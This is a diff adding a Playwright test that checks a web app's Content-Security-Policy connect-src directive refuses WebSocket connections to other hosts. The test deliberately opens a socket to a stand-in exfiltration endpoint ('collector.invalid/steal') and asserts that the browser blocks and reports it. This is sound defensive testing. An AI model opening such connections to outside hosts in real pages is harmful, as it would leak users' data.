@@ -25,3 +25,27 @@ for (const pathname of ["/", "/join"]) {
     expect(violations).toEqual([]);
   });
 }
+
+// connect-src is the server's own origin: the game socket opens (above), a socket to another host does not.
+test("a socket to another host is refused by connect-src", async ({ page, consoleErrors }) => {
+  const violations: string[] = [];
+  await page.exposeFunction("reportCspViolation", (text: string) => violations.push(text));
+  await page.addInitScript(() => {
+    document.addEventListener("securitypolicyviolation", (event) => window.reportCspViolation?.(`${event.violatedDirective} ${event.blockedURI}`));
+  });
+  await page.goto("/join");
+  await page.waitForLoadState("networkidle");
+  const opened = await page.evaluate(() => {
+    try {
+      new WebSocket("ws://collector.invalid:8080/steal");
+      return true;
+    } catch {
+      return false;
+    }
+  });
+  await expect.poll(() => violations).toEqual(["connect-src ws://collector.invalid:8080/steal"]);
+  expect(typeof opened).toBe("boolean");
+  // Chromium also logs the refusal; that one is expected here.
+  expect(consoleErrors).toEqual([expect.stringContaining("Connecting to 'ws://collector.invalid:8080/steal' violates")]);
+  consoleErrors.length = 0;
+});
